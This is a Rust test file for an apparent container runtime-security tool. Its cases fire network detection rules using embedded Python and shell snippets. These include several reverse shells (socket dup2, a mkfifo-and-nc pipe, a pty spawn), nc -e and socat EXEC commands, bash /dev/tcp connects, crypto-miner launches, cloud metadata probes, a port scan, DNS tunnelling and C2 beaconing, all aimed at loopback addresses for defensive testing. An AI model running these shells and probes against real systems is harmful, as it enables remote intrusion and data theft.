//! Rule triggers (see `rule_triggers`): network rules, miners and the
//! port-scan detection. The container has its own network namespace with only `lo`:
//! connects go to 127.0.0.1 (the rules match on the port) and are refused
//! at once, and the metadata address is unreachable (ENETUNREACH), so no
//! packet leaves the machine.

use crate::rule_triggers::*;
use crate::support::*;

#[test]
fn network_rules_fire_in_containers() {
    let ctrd = Containerd::start();
    let d = Daemon::start(DAEMON_ARGS);
    let mut t = Triggers::new(&ctrd, &d);

    t.run(Case::py(
        "packet-socket",
        &[],
        r#"
out["packet"] = err(libc.socket(17, 3, 0x300))  # AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)
out["raw"] = err(libc.socket(2, 3, 1))  # AF_INET, SOCK_RAW, IPPROTO_ICMP
"#,
    ));
    t.run(Case::py(
        "mining-pool-connect",
        &[],
        r#"
out["3333"] = nb_connect("127.0.0.1", 3333)
out["14444"] = nb_connect("127.0.0.1", 14444)
"#,
    ));
    // A miner by name, and one renamed but pointed at a stratum pool.
    t.run(Case::py(
        "crypto-miner-exec",
        &[],
        r#"
out["xmrig"] = run(named("xmrig"), "-o", "127.0.0.1:3333", "--donate-level", "1")
out["renamed"] = run(named("kworker"), "-o", "stratum+tcp://127.0.0.1:3333", "-u", "wallet")
"#,
    ));
    t.run(Case::py(
        "k8s-api-from-container",
        &[],
        r#"
out["6443"] = nb_connect("127.0.0.1", 6443)
out["10250"] = nb_connect("127.0.0.1", 10250)
"#,
    ));
    // A shell whose stdin/stdout/stderr are a TCP connection (to a listener
    // in the same container standing in for the attacker). The listener is
    // the shell's parent, so it is also a shell spawned by a server.
    t.run(Case::py(
        "reverse-shell",
        &["shell-in-container", "server-spawned-shell"],
        r#"
srv = socket.socket()
srv.bind(("127.0.0.1", 47400))
srv.listen(1)
c = socket.create_connection(("127.0.0.1", 47400))
a, _ = srv.accept()
pid = os.fork()
if pid == 0:
    try:
        for fd in (0, 1, 2):
            os.dup2(c.fileno(), fd)
        os.execv("/bin/sh", ["sh", "-c", "echo bw-reverse-shell"])
    finally:
        os._exit(127)
out["status"] = os.waitpid(pid, 0)[1]
out["got"] = a.recv(100).decode().strip()
"#,
    ));
    // Programs called nc and socat (symlinks to true: the image has no
    // netcat) with the arguments that make them run a program.
    t.run(Case::py(
        "netcat-remote-exec",
        &[],
        r#"
out["nc"] = run(named("nc"), "-e", "/bin/sh", "127.0.0.1", "4444")
out["socat"] = run(named("socat"), "TCP:127.0.0.1:4444", "EXEC:/bin/sh")
"#,
    ));
    // bash's /dev/tcp: the shell itself connects (refused).
    t.run(Case::cmd(
        "shell-network-connect",
        &["shell-in-container"],
        &["bash", "-c", "echo bw >/dev/tcp/127.0.0.1/47401 || true"],
    ));
    t.run(Case::cmd(
        "listen-unexpected",
        &[],
        &[
            "perl",
            "-MIO::Socket::INET",
            "-e",
            "IO::Socket::INET->new(Listen => 5, LocalAddr => '127.0.0.1', LocalPort => 47402) or die $!",
        ],
    ));
    t.run(Case::py(
        "cloud-metadata-access",
        &[],
        r#"
out["aws"] = nb_connect("169.254.169.254", 80, timeout=0.1)
out["alibaba"] = udp_send("100.100.100.200", 80)
"#,
    ));
    t.run(Case::py(
        "dns-unusual-port",
        &[],
        r#"
out["5053"] = udp_send("127.0.0.1", 5053)
out["853"] = udp_send("127.0.0.1", 853)
"#,
    ));
    t.run(Case::py(
        "network-scanner-exec",
        &[],
        r#"
out["nmap"] = run(named("nmap"), "-sS", "-p", "1-1024", "127.0.0.1")
"#,
    ));
    // 25 distinct closed ports in well under the 5 s window.
    t.run(Case::py(
        "port-scan-from-container",
        &[],
        r#"
out["refused"] = sum(1 for p in range(47500, 47525) if nb_connect("127.0.0.1", p) == -errno.ECONNREFUSED)
"#,
    ));
    // `cat f | sh -i | nc host port > f`: no -e, the shell talks to netcat through
    // pipes (a python listener stands in for the attacker). `sh -i` is also the
    // interactive-shell Notice.
    t.run(Case::cmd(
        "pipe-reverse-shell",
        &["shell-in-container"],
        &[
            "sh",
            "-c",
            "python3 -c 'import socket,time; s=socket.socket(); s.bind((\"127.0.0.1\",47410)); s.listen(1); c,_=s.accept(); c.sendall(b\"exit\\n\"); time.sleep(0.5)' & \
             sleep 0.5; rm -f /tmp/bw-f; mkfifo /tmp/bw-f; \
             timeout 5 sh -c 'cat /tmp/bw-f | /bin/sh -i 2>&1 | nc 127.0.0.1 47410 > /tmp/bw-f'; wait; exit 0",
        ],
    ));
    // A server process (it accepted the request) running a shell: a web shell.
    t.run(Case::py(
        "server-spawned-shell",
        &[],
        r#"
srv = socket.socket()
srv.bind(("127.0.0.1", 47411))
srv.listen(1)
pid = os.fork()
if pid == 0:
    c, _ = srv.accept()
    c.recv(100)
    subprocess.run(["sh", "-c", "id"], stdout=subprocess.DEVNULL)
    os._exit(0)
srv.close()
c = socket.create_connection(("127.0.0.1", 47411)); c.sendall(b"GET /?cmd=id\r\n\r\n"); c.close()
out["status"] = os.waitpid(pid, 0)[1]
"#,
    ));
    // python's pty reverse shell: the socket is the parent's, the shell sits on a
    // pseudo-terminal (so not reverse-shell); `sh` alone is the interactive Notice.
    t.run(Case::py(
        "network-process-shell",
        &["shell-in-container"],
        r#"
import pty
srv = socket.socket()
srv.bind(("127.0.0.1", 47412))
srv.listen(1)
pid = os.fork()
if pid == 0:
    s = socket.create_connection(("127.0.0.1", 47412))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/sh")
    os._exit(0)
a, _ = srv.accept()
time.sleep(0.3)
a.sendall(b"exit\n")
time.sleep(0.5)
a.close()
out["status"] = os.waitpid(pid, 0)[1]
"#,
    ));
    // 40 queries with ~150-byte names to a closed local port 53 (datagrams sent,
    // nobody answers).
    t.run(Case::py(
        "dns-tunnelling",
        &[],
        r#"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sent = 0
for i in range(40):
    labels = [("%02d" % i) + "a" * 48, "b" * 50, "c" * 50, "t", "example"]
    name = b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\0"
    sent += s.sendto(struct.pack(">HHHHHH", i, 0x100, 1, 0, 0, 0) + name + b"\x00\x10\x00\x01", ("127.0.0.1", 53))
out["sent"] = sent
"#,
    ));
    // An inline python implant calling a lab address (on the container's own lo)
    // every 300 ms.
    t.run(
        Case::py(
            "c2-beaconing",
            &[],
            r#"
import threading
subprocess.run(["ip", "addr", "add", "198.51.100.7/32", "dev", "lo"], check=True)
srv = socket.socket()
srv.bind(("198.51.100.7", 47413))
srv.listen(16)
def serve():
    while True:
        c, _ = srv.accept(); c.close()
threading.Thread(target=serve, daemon=True).start()
for i in range(7):
    c = socket.create_connection(("198.51.100.7", 47413)); c.close()
    time.sleep(0.3)
out["beacons"] = 7
"#,
        )
        .with_flags(&["--cap-add", "CAP_NET_ADMIN"]),
    );
    t.finish();
    d.stop();
}
